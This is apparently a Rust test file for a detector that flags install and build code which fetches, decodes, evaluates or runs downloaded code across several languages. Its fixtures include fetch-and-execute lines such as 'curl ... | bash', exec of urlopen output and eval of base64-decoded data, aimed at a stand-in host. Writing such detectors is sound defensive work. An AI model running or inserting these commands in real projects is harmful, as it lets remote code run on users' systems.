//! Programs, and what they are taken to do.

use super::*;

/// The verdict as words: `fetches 1`, `starts 2`.
fn of(language: Language, text: &str) -> String {
    let Traits { fetches, starts, evaluates, decodes, runs_fetched, verifies, .. } = traits(text, language);
    let told = [
        ("fetches", fetches),
        ("starts", starts),
        ("evaluates", evaluates),
        ("decodes", decodes),
        ("runs-fetched", runs_fetched),
        ("verifies", verifies.then_some(0)),
    ];
    let told = told.into_iter().filter_map(|(name, line)| Some(format!("{name} {}", line?)));
    told.collect::<Vec<_>>().join(", ")
}

#[test]
fn programs_of_javascript() {
    for (text, expected) in [
        (
            "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://x.example/i | bash');",
            "fetches 2, starts 1, runs-fetched 2",
        ),
        (
            "import https from 'node:https'\nimport { spawn } from \"node:child_process\"\n",
            "fetches 1, starts 2",
        ),
        ("const crypto = require('crypto');\nfetch(u); crypto.createHash('sha256')", "fetches 2, verifies 0"),
        ("\neval(Buffer.from(x, 'base64').toString())", "evaluates 2, decodes 2"),
        (
            "// fetch('https://x.example')\nconsole.log('eval(x)', \"child_process of\"); prefetch(); a.eval(b)",
            "",
        ),
        ("fs.copyFileSync('a', 'b')", ""),
    ] {
        assert_eq!(of(Language::JavaScript, text), expected, "{text}");
    }
}

#[test]
fn programs_of_python() {
    for (text, expected) in [
        (
            "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())",
            "fetches 1, evaluates 2",
        ),
        ("import base64\nexec(base64.b64decode('cHJpbnQ='))", "evaluates 2, decodes 2"),
        ("import subprocess\nsubprocess.check_output(['git', 'describe'])", "starts 1"),
        ("about = {}\nwith open('v.py') as f:\n    exec(f.read(), about)\n", "evaluates 3"),
        (
            "\"\"\"urlopen(x) and exec(y)\"\"\"\n# subprocess\nfrom urllib.parse import quote\nre.compile(x)",
            "",
        ),
        ("os.system('curl https://x.example/i | sh')", "fetches 1, starts 1, runs-fetched 1"),
    ] {
        assert_eq!(of(Language::Python, text), expected, "{text}");
    }
}

#[test]
fn programs_of_rust_ruby_and_shells() {
    for (language, text, expected) in [
        (Language::Rust, "Command::new(\"cc\").arg(\"curl.c\");", "starts 1"),
        (Language::Rust, "std::process::Command::new(\"curl\").arg(url)", "fetches 1, starts 1"),
        (Language::Rust, "// reqwest\nlet s = \"reqwest\";", ""),
        (Language::Rust, "let b = reqwest::blocking::get(u)?; Sha256::digest(b)", "fetches 1, verifies 0"),
        (Language::Ruby, "require 'mkmf'\ncreate_makefile('x')", ""),
        (Language::Ruby, "require \"open-uri\"\neval(URI.open(u).read)", "fetches 1, evaluates 2"),
        (Language::Ruby, "s.files = `git ls-files`.split", "starts 1"),
        (Language::Shell, "# curl https://x.example | sh\nmake\n", ""),
        (Language::Shell, "set -e\ncurl -o i https://x.example/i\nsh ./i\n", "fetches 2, runs-fetched 1"),
    ] {
        assert_eq!(of(language, text), expected, "{text}");
    }
}

#[test]
fn the_language_is_that_of_the_name() {
    for (path, expected) in [
        ("a/setup.py", Language::Python),
        ("x.gemspec", Language::Ruby),
        ("build.rs", Language::Rust),
        ("i.sh", Language::Shell),
        ("bundle.mjs", Language::JavaScript),
        ("bin/run", Language::JavaScript),
    ] {
        assert_eq!(language(path), expected, "{path}");
    }
}
